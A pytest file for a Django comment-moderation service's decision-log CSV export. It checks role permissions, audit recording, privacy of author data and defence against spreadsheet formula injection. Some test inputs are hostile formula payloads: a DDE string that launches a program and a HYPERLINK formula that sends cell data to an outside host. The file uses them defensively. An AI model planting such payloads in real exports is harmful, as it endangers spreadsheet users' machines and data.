"""The log as a file: who may take it, what is in it, and that no spreadsheet runs any of it."""

import csv
import io

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from comments.models import Status
from moderation.accounts.models import User
from moderation.accounts.roles import Role
from moderation.desk.log_export import without_formula
from moderation.models import PrivacyDeed, PrivacyEntry
from moderation.policy.verdict import Outcome, Reason
from tests.makers import decide, make_article, make_comment
from tests.moderation.desk.desks import LOG, signed_in_as, signed_in_with

pytestmark = pytest.mark.django_db
FILE = f"{LOG}export/"


@pytest.fixture
def lead() -> Client:
    return signed_in_as(Role.LEAD, "olena")


def rows(client: Client, query: str = "") -> list[dict[str, str]]:
    answer = client.get(f"{FILE}{query}")
    assert answer.status_code == 200
    written = answer.getvalue().decode()
    assert written.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(written.removeprefix("\ufeff"))))


@pytest.mark.parametrize("role", Role)
def test_leads_and_auditors_may_take_the_log_and_moderators_may_not(role: Role) -> None:
    make_comment()
    client = signed_in_as(role)
    allowed = role is not Role.MODERATOR
    assert client.get(FILE).status_code == (200 if allowed else 403)
    assert (FILE in client.get(LOG).content.decode()) is allowed


def test_without_seeing_decisions_the_permission_to_export_gives_nothing() -> None:
    assert signed_in_with("view_decision_file").get(FILE).status_code == 403
    assert not PrivacyEntry.objects.exists()


def test_every_export_is_recorded(lead: Client) -> None:
    make_comment()
    make_comment()
    lead.get(FILE)
    entry = PrivacyEntry.objects.get()
    assert (entry.deed, entry.count, entry.actor) == (PrivacyDeed.LOG, 2, User.objects.get())


def test_a_row_says_what_was_decided_about_what(lead: Client) -> None:
    article = make_article(key="mist", title="Міст")
    comment = make_comment(article, text="Перший\nрядок")
    (row,) = rows(lead)
    assert row["Comment"] == str(comment.pk)
    assert (row["Article's key"], row["Article"]) == ("mist", "Міст")
    assert (row["Decision"], row["Reason"]) == ("published", "nothing found")
    assert row["Decided by"] == "automatically"
    assert row["Text, if published"] == "Перший рядок"


def test_nothing_about_the_author_and_no_unpublished_text_leaves_the_service(lead: Client) -> None:
    secret = "Телефон 0671234567, пошта taras@example.org"
    for status in (Status.HELD, Status.REJECTED):
        make_comment(status=status, text=secret, author_name="Тарас", author_email="t@example.org")
    answer = lead.get(FILE).getvalue().decode()
    for word in ("0671234567", "example.org", "Тарас"):
        assert word not in answer
    assert answer.count("\r\n") == 3


def test_a_published_reply_has_no_text_once_readers_no_longer_see_what_it_answers(
    lead: Client,
) -> None:
    root = make_comment(text="Старе депо знесуть?")
    reply = make_comment(root.article, parent=root, text="Так, навесні.")
    decide(root, Outcome.REJECT, Reason.SPAM)
    texts = {row["Comment"]: row["Text, if published"] for row in rows(lead)}
    assert texts == {str(root.pk): "", str(reply.pk): ""}


def test_the_file_has_what_the_page_shows(lead: Client) -> None:
    make_comment()
    held = make_comment(status=Status.HELD)
    assert [row["Comment"] for row in rows(lead, "?outcome=hold")] == [str(held.pk)]
    assert rows(lead, "?outcome=nonsense") == []


@pytest.mark.parametrize("sign", "=+-@\t\r＝＋－＠")
def test_a_text_that_looks_like_a_formula_is_not_run(sign: str, lead: Client) -> None:
    assert without_formula(f"{sign}SUM(A1)")[0] in "'\t\r"
    assert not without_formula(f"{sign}=SUM(A1)").lstrip().startswith("=")


@pytest.mark.parametrize("between", [",", ";", '"', "\t"])
def test_a_formula_after_the_end_of_a_cell_is_not_run_either(between: str) -> None:
    assert without_formula(f"Так{between}=1+1") == f"Так{between}'=1+1"
    assert without_formula("Ні - так, але 2+2=4") == "Ні - так, але 2+2=4"


def test_a_formula_in_a_comment_and_in_a_title_is_disarmed(lead: Client) -> None:
    article = make_article(title="@SUM(1+9)*cmd|' /C calc'!A0")
    make_comment(article, text='=HYPERLINK("https://example.net?"&A1)')
    (row,) = rows(lead)
    assert row["Article"].startswith("'@SUM")
    assert row["Text, if published"].startswith("'=HYPERLINK")


def test_a_long_log_is_sent_in_parts_with_one_query(lead: Client) -> None:
    for _ in range(5):
        make_comment()
    answer = lead.get(FILE)
    assert answer.streaming
    assert 'filename="decisions-' in answer["Content-Disposition"]
    with CaptureQueriesContext(connection) as made:
        assert len(answer.getvalue().splitlines()) == 6
    assert len(made) == 1
